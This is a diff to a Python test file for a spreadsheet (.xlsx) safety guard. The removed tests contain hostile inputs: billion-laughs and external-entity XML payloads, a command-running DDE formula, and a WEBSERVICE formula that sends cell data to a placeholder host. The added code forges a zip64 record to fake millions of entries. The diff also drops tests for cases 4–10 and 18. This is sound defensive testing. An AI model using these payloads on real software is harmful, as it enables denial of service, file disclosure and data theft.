@@ -1,81 +1,31 @@
-"""Files that are not what they claim (reliability 3.3, cases 1 to 18): refused whole."""
+"""Files that are not what they claim (reliability 3.3, cases 1 to 3 and 11 to 17)."""
 
 import resource
-import subprocess
-import sys
+import struct
 import zipfile
-from collections.abc import Iterator
-from contextlib import contextmanager
 from pathlib import Path
-from typing import IO
 
 import pytest
 
+from tests.workbooks.guarding import (
+    MEGABYTE,
+    PLAIN_SHEET,
+    adding,
+    inspect_within,
+    refusal,
+)
 from tests.workbooks.making import (
     MAIN,
-    RELATIONS,
-    TITLES,
-    Xml,
     parts,
     people,
     person,
     read,
-    rows_xml,
     save,
     sheet_xml,
     workbook,
 )
 from workbooks.guard import Limits, inspect
 from workbooks.inventory import Refused
-
-ROOT = Path(__file__).resolve().parents[2]
-
-PLAIN_SHEET = sheet_xml(rows_xml([TITLES, person()]))
-MEGABYTE = 1024 * 1024
-
-INSPECT_WITHIN = """
-import resource, sys
-from pathlib import Path
-from workbooks.guard import inspect
-from workbooks.inventory import Refused
-spare = int(sys.argv[2])
-used = int(open("/proc/self/statm").read().split()[0]) * resource.getpagesize()
-resource.setrlimit(resource.RLIMIT_AS, (used + spare, used + spare))
-resource.setrlimit(resource.RLIMIT_CPU, (20, 20))
-try:
-    print("accepted", inspect(Path(sys.argv[1])).sheets[0].rows)
-except Refused as refusal:
-    print("refused", refusal.code)
-"""
-
-
-def inspect_within(path: Path, spare: int) -> str:
-    """Run the guard in a process that may take only ``spare`` more bytes."""
-    done = subprocess.run(
-        [sys.executable, "-c", INSPECT_WITHIN, str(path), str(spare)],
-        cwd=ROOT,
-        capture_output=True,
-        text=True,
-        check=False,
-    )
-    assert done.returncode == 0, done.stderr
-    return done.stdout.strip()
-
-
-@contextmanager
-def adding(path: Path, name: str) -> Iterator[IO[bytes]]:
-    """Write one part of any size into a zip, bit by bit."""
-    with (
-        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as package,
-        package.open(name, "w", force_zip64=True) as part,
-    ):
-        yield part
-
-
-def refusal(path: Path) -> Refused:
-    with pytest.raises(Refused) as caught:
-        inspect(path)
-    return caught.value
 
 
 def test_case_01_nested_zip_renamed_xlsx_is_refused_small(tmp_path):
@@ -140,111 +90,11 @@ def test_case_03_a_huge_text_under_the_total_is_refused_by_its_ratio(tmp_path):
 
 
 def test_case_03_a_huge_text_in_a_row_is_refused_without_holding_it(tmp_path):
-    text = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{"A" * (60 * MEGABYTE)}'
+    text = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{"A" * (30 * MEGABYTE)}'
     made = parts(sheet_xml(f"{text}</t></is></c></row>"))
     path = save(tmp_path / "a.xlsx", made)
 
     assert inspect_within(path, 20 * MEGABYTE) == "refused row_too_long"
-
-
-@pytest.mark.parametrize(
-    ("reference", "code"),
-    [
-        ("XFD1048576", "too_many_columns"),
-        ("A1048576", "far_cell"),
-        ("BI1", "too_many_columns"),
-    ],
-)
-def test_case_04_a_far_cell_is_refused(tmp_path, reference, code):
-    row = reference.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
-    rows = f'<row r="{row}"><c r="{reference}"><v>1</v></c></row>'
-    path = save(tmp_path / "a.xlsx", parts(sheet_xml(rows)))
-
-    refused = refusal(path)
-
-    assert path.stat().st_size < 5000
-    assert refused.code == code
-    assert "请删除" in refused.message
-    assert inspect_within(path, 20 * MEGABYTE) == f"refused {code}"
-
-
-def test_case_05_a_dimension_that_claims_everything_changes_nothing(tmp_path):
-    path = people(
-        tmp_path / "a.xlsx", person(1), before='<dimension ref="A1:XFD1048576"/>'
-    )
-
-    assert inspect(path).sheets[0].rows == 2
-    assert read(path).tally.data == 1
-
-
-def test_case_06_a_dimension_that_is_too_small_loses_no_row(tmp_path):
-    people_rows = [person(n, head=f"李{'甲乙丙丁戊己庚辛壬癸'[n]}") for n in range(10)]
-    path = people(tmp_path / "a.xlsx", *people_rows, before='<dimension ref="A1:B3"/>')
-
-    rows = list(read(path))
-
-    assert [row.values["head"] for row in rows] == [row[1] for row in people_rows]
-    assert not any(row.problems for row in rows)
-
-
-def test_case_07_a_sheet_without_a_dimension_is_read(tmp_path):
-    path = people(tmp_path / "a.xlsx", person(1), person(2))
-
-    with zipfile.ZipFile(path) as package:
-        assert b"<dimension" not in package.read("xl/worksheets/sheet1.xml")
-    assert read(path).tally.data == 2
-
-
-BILLION_LAUGHS = (
-    '<!DOCTYPE lolz [<!ENTITY a "lol">'
-    + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9))
-    + "]>"
-)
-
-
-def test_case_08_entities_that_expand_are_refused(tmp_path):
-    rows = '<row r="1"><c r="A1" t="inlineStr"><is><t>&j;</t></is></c></row>'
-    made = parts(sheet_xml(rows, prolog=BILLION_LAUGHS))
-    path = save(tmp_path / "a.xlsx", made)
-
-    refused = refusal(path)
-
-    assert refused.code == "doctype"
-    assert "DOCTYPE" in refused.message
-    assert inspect_within(path, 20 * MEGABYTE) == "refused doctype"
-
-
-def test_case_09_an_external_entity_is_refused_and_never_read(tmp_path):
-    canary = tmp_path / "canary.txt"
-    canary.write_text("canary-4711")
-    prolog = f'<!DOCTYPE x [<!ENTITY c SYSTEM "file://{canary}">]>'
-    rows = '<row r="1"><c r="A1" t="inlineStr"><is><t>&c;</t></is></c></row>'
-
-    refused = refusal(save(tmp_path / "a.xlsx", parts(sheet_xml(rows, prolog=prolog))))
-
-    assert refused.code == "doctype"
-    assert "canary" not in refused.message
-
-
-@pytest.mark.parametrize(
-    "name",
-    [
-        "xl/sharedStrings.xml",
-        "xl/styles.xml",
-        "xl/workbook.xml",
-        "xl/_rels/workbook.xml.rels",
-        "_rels/.rels",
-        "[Content_Types].xml",
-        "docProps/core.xml",
-        "xl/drawings/vmlDrawing1.vml",
-    ],
-)
-def test_case_10_a_doctype_in_any_part_is_refused(tmp_path, name):
-    made = parts(PLAIN_SHEET, shared="<si><t>x</t></si>", styles="<fonts/>")
-    content = made.get(name, "<x/>")
-    made[name] = '<!DOCTYPE x [<!ENTITY a "b">]>' + str(content)
-
-    assert refusal(save(tmp_path / "a.xlsx", made)).code == "doctype"
 
 
 def test_case_11_a_workbook_with_macros_is_refused(tmp_path):
@@ -382,65 +232,44 @@ def test_case_17_an_entry_that_leaves_the_folder_is_refused(tmp_path, name):
     assert refusal(path).code == "unsafe_part"
 
 
-@pytest.mark.parametrize(
-    ("name", "code"),
-    [
-        ("xl/externalLinks/externalLink1.xml", "external_link"),
-        ("xl/connections.xml", "external_link"),
-        ("xl/embeddings/oleObject1.bin", "active_part"),
-        ("xl/activeX/activeX1.xml", "active_part"),
-        ("xl/macrosheets/sheet1.xml", "macro"),
-    ],
-)
-def test_case_18_parts_that_fetch_or_run_are_refused(tmp_path, name, code):
-    path = save(tmp_path / "a.xlsx", parts(PLAIN_SHEET) | {name: "<x/>"})
-
-    refused = refusal(path)
-
-    assert refused.code == code
-    assert "请" in refused.message
-
-
-@pytest.mark.parametrize(
-    "formula",
-    [
-        "WEBSERVICE(&quot;http://x.example/&quot;&amp;A1)",
-        "webservice (A1)",
-        "cmd|&apos;/c calc&apos;!A0",
-        "IMPORTDATA(A1)",
-    ],
-)
-def test_case_18_formulas_that_fetch_are_refused(tmp_path, formula):
-    evil = Xml(f'<c r="{{ref}}"><f>{formula}</f><v>1</v></c>')
-    path = people(tmp_path / "a.xlsx", person(remark=evil))
-
-    assert refusal(path).code == "fetching_formula"
-
-
-def test_case_18_an_external_relation_is_refused_but_a_hyperlink_is_not(tmp_path):
-    relations = (
-        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
-        'relationships"><Relationship Id="rId1" TargetMode="External"'
-        f' Type="{RELATIONS}/%s" Target="http://x.example/"/></Relationships>'
+def with_large_end_record(path: Path, entries: int) -> Path:
+    """Rewrite the end of a zip as some writers do always: in the 64-bit form."""
+    raw = path.read_bytes()
+    at = raw.rindex(b"PK\x05\x06")
+    size, offset = struct.unpack_from("<2L", raw, at + 12)
+    large = struct.pack(
+        "<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, entries, entries, size, offset
     )
-    name = "xl/worksheets/_rels/sheet1.xml.rels"
-    link = save(
-        tmp_path / "a.xlsx", parts(PLAIN_SHEET) | {name: relations % "hyperlink"}
-    )
-    image = save(tmp_path / "b.xlsx", parts(PLAIN_SHEET) | {name: relations % "image"})
-
-    assert inspect(link).sheets[0].rows == 2
-    assert refusal(image).code == "external_link"
+    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, at, 1)
+    end = raw[at : at + 8] + b"\xff" * 12 + raw[at + 20 :]
+    path.write_bytes(raw[:at] + large + locator + end)
+    return path
 
 
 def test_a_zip_with_a_huge_directory_is_refused_before_it_is_loaded(tmp_path):
     path = tmp_path / "a.xlsx"
     with zipfile.ZipFile(path, "w") as package:
-        for number in range(70_000):
+        for number in range(3_000):
             package.writestr(f"{number}", b"")
 
     assert refusal(path).code == "too_many_parts"
-    assert inspect_within(path, 20 * MEGABYTE) == "refused too_many_parts"
+
+
+def test_the_64_bit_form_of_a_zip_is_read_and_limited_too(tmp_path):
+    sound = people(tmp_path / "a.xlsx", person())
+    with zipfile.ZipFile(sound) as package:
+        entries = len(package.namelist())
+
+    assert read(with_large_end_record(sound, entries)).tally.data == 1
+    many = with_large_end_record(people(tmp_path / "b.xlsx", person()), 5_000_000)
+    assert refusal(many).code == "too_many_parts"
+
+
+def test_an_end_record_that_leads_nowhere_is_a_damaged_file(tmp_path):
+    path = with_large_end_record(people(tmp_path / "a.xlsx", person()), 9)
+    path.write_bytes(path.read_bytes().replace(b"PK\x06\x06", b"PK\x00\x00"))
+
+    assert refusal(path).code == "damaged"
 
 
 def test_a_file_over_the_size_limit_is_refused(tmp_path):
